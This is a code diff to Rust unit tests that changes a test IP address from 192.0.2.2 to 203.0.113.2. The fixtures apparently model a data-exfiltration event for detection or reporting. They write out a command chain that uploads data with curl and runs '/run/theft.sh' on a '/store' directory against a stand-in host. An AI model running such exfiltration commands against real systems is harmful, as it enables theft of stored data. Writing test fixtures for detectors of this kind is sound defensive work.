@@ -70,9 +70,9 @@ mod tests {
             records: 200,
             bytes_read: 1000,
             bytes_sent: 1200,
-            destination: "192.0.2.2:4000".parse().unwrap(),
+            destination: "203.0.113.2:4000".parse().unwrap(),
             script: "/run/theft.sh".into(),
-            url: "http://192.0.2.2:4000/upload".to_owned(),
+            url: "http://203.0.113.2:4000/upload".to_owned(),
         }
     }
 
@@ -86,10 +86,10 @@ mod tests {
             records: 200,
             bytes_read: 1000,
             bytes_sent: 1200,
-            destination: "192.0.2.2:4000".to_owned(),
+            destination: "203.0.113.2:4000".to_owned(),
             chain: vec![
-                words("curl --config - http://192.0.2.2:4000/upload"),
-                words("sh /run/theft.sh /store http://192.0.2.2:4000/upload"),
+                words("curl --config - http://203.0.113.2:4000/upload"),
+                words("sh /run/theft.sh /store http://203.0.113.2:4000/upload"),
                 words("bash"),
             ],
         }
